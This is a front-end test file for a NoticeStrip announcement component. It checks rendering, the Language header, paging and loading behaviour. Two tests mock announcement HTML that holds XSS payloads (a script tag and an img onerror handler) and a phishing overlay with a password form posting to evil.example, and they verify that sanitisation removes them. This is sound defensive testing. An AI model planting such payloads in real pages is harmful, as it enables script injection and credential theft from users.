import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { http, HttpResponse } from 'msw';
import { describe, expect, it } from 'vitest';
import { sampleNotices } from '../../tests/support/api-handlers.ts';
import { demoBrands } from '../../tests/support/brands.ts';
import { server } from '../../tests/support/msw-server.ts';
import { renderInApp } from '../../tests/support/render.tsx';
import { NoticeStrip } from './notice-strip.tsx';

describe('NoticeStrip', () => {
  it('shows announcement titles and opens them in the notice modal', async () => {
    await renderInApp(<NoticeStrip settings={{ group: 'player' }} sectionKey="notices" />, {
      brand: demoBrands.royal!,
    });
    const strip = await screen.findByRole('button', { name: /Announcements/ });
    expect(strip).toHaveTextContent('New: pay with GCash');
    await userEvent.click(strip);
    const dialog = await screen.findByRole('dialog', { name: 'Announcements' });
    expect(await within(dialog).findByText('Games stay open.')).toBeInTheDocument();
    await userEvent.click(within(dialog).getByRole('button', { name: 'Close' }));
    expect(screen.queryByRole('dialog')).toBeNull();
  });

  it('sends the Language header and removes scripts from announcement HTML', async () => {
    let language: string | null = null;
    server.use(
      http.get('*/wps/system/notices', ({ request }) => {
        language = request.headers.get('Language');
        return HttpResponse.json({
          value: {
            ...sampleNotices,
            player: [
              {
                id: 9,
                type: 'PL',
                title: 'Hostile',
                content:
                  '<p>Hello</p><script>window.pwned=1</script><img src="x" onerror="window.pwned=2">',
                createdAt: '2026-11-20T00:00:00Z',
              },
            ],
          },
        });
      }),
    );
    await renderInApp(<NoticeStrip settings={{ group: 'player' }} sectionKey="notices" />, {
      brand: demoBrands.lucky!,
    });
    await userEvent.click(await screen.findByRole('button', { name: /Mga anunsyo/ }));
    const dialog = await screen.findByRole('dialog');
    await within(dialog).findByText('Hello');
    expect(dialog.querySelector('script')).toBeNull();
    expect(dialog.querySelector('img')?.getAttribute('onerror')).toBeNull();
    expect(language).toBe('TY');
  });

  it('drops styles, forms and images from other hosts from announcement HTML', async () => {
    server.use(
      http.get('*/wps/system/notices', () =>
        HttpResponse.json({
          value: {
            ...sampleNotices,
            player: [
              {
                id: 9,
                type: 'PL',
                title: 'Phishing',
                content:
                  '<p style="position:fixed;inset:0">Verify</p><form action="https://evil.example"><input name="password"></form><img src="https://tracker.example/p.gif"><img src="/brand-assets/royal/logo.svg" alt="logo">',
                createdAt: '2026-11-20T00:00:00Z',
              },
            ],
          },
        }),
      ),
    );
    await renderInApp(<NoticeStrip settings={{ group: 'player' }} sectionKey="notices" />, {
      brand: demoBrands.royal!,
    });
    await userEvent.click(await screen.findByRole('button', { name: /Announcements/ }));
    const dialog = await screen.findByRole('dialog');
    const text = await within(dialog).findByText('Verify');
    expect(text.getAttribute('style')).toBeNull();
    expect(dialog.querySelector('form, input')).toBeNull();
    expect([...dialog.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
      '/brand-assets/royal/logo.svg',
    ]);
  });

  it('pages the modal by the brand page size (9)', async () => {
    const many = Array.from({ length: 11 }, (_, i) => ({
      ...sampleNotices.player[0]!,
      id: i + 1,
      title: `Notice ${i + 1}`,
    }));
    server.use(
      http.get('*/wps/system/notices', () =>
        HttpResponse.json({ value: { ...sampleNotices, player: many } }),
      ),
    );
    await renderInApp(<NoticeStrip settings={{ group: 'player' }} sectionKey="notices" />, {
      brand: demoBrands.royal!,
    });
    await userEvent.click(await screen.findByRole('button', { name: /Announcements/ }));
    const dialog = await screen.findByRole('dialog');
    expect(dialog.querySelectorAll('details')).toHaveLength(9);
    expect(within(dialog).getByText('Page 1 of 2')).toBeInTheDocument();
    await userEvent.click(within(dialog).getByRole('button', { name: 'Next' }));
    expect(dialog.querySelectorAll('details')).toHaveLength(2);
  });

  it('is hidden without announcements', async () => {
    server.use(
      http.get('*/wps/system/notices', () =>
        HttpResponse.json({ value: { ...sampleNotices, player: [] } }),
      ),
    );
    const { container } = await renderInApp(
      <NoticeStrip settings={{ group: 'player' }} sectionKey="notices" />,
      { brand: demoBrands.royal! },
    );
    await waitFor(() => expect(container.querySelector('.notice-strip')).toBeNull());
    expect(screen.queryByRole('button', { name: /Announcements/ })).toBeNull();
  });

  it('keeps its place while the titles load, so the page below does not jump', async () => {
    server.use(http.get('*/wps/system/notices', () => new Promise<never>(() => {})));
    const { container } = await renderInApp(
      <NoticeStrip settings={{ group: 'player' }} sectionKey="notices" />,
      { brand: demoBrands.royal! },
    );
    await waitFor(() =>
      expect(container.querySelector('.notice-strip--pending')).toHaveAttribute(
        'aria-hidden',
        'true',
      ),
    );
    expect(screen.queryByRole('button')).toBeNull();
  });
});
